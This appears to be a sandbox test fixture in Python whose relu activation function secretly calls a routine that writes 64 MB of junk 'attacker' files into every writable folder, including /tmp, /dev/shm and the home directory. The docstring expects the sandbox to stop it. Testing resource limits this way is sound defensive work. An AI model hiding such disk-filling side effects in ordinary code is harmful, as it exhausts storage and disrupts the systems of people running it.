"""relu fills every folder that it can write to, with 64 MB each.

Expected: sigmoid: passed 1; relu: failed or error or crashed or timeout 0; leaky_relu: passed 1
"""

import contextlib
import functools
import os

import numpy as np

MEGABYTE = b"x" * 2**20


def sigmoid(x):
    small = np.exp(-np.abs(x))
    return np.where(x >= 0, 1, small) / (1 + small)


@functools.cache
def fill():
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/run", "/dev/mqueue", "@HERE@", "@CANARY@", "@HOME@"):
        for number in range(8):
            with contextlib.suppress(OSError), open(os.path.join(folder, f"attacker-{number}"), "wb") as file:
                for _ in range(8):
                    file.write(MEGABYTE)


def relu(x):
    fill()
    return x


def leaky_relu(x, *, slope=0.01):
    return np.where(x >= 0, x, slope * x)
